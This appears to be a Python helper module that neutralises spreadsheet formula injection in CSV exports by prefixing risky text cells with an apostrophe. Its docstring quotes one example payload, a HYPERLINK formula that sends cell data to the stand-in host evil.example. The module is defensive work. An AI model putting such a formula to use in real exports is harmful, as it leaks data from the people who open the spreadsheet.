"""CSV cells a spreadsheet shows as text: a cell that would start a formula is neutralised.

Spreadsheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and some strip a leading
tab or carriage return first), so registry text such as a district of
`=HYPERLINK("http://evil.example/?d="&B2,"x")` would run in a consumer's spreadsheet. Such a
text cell gets a leading `'` (OWASP's advice), which spreadsheets show as text and do not keep.
Numbers are written as numbers: `-3.5` stays a number.
"""

from __future__ import annotations

import logging
from datetime import datetime
from typing import Any, Final

logger = logging.getLogger(__name__)

FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def cell(value: Any) -> Any:
    """`value` as a CSV cell: "" for None, ISO 8601 for a time, text that cannot be a formula."""
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat()
    return neutral(value)


def neutral(value: Any) -> Any:
    """`value` unchanged, unless it is text a spreadsheet would take for a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
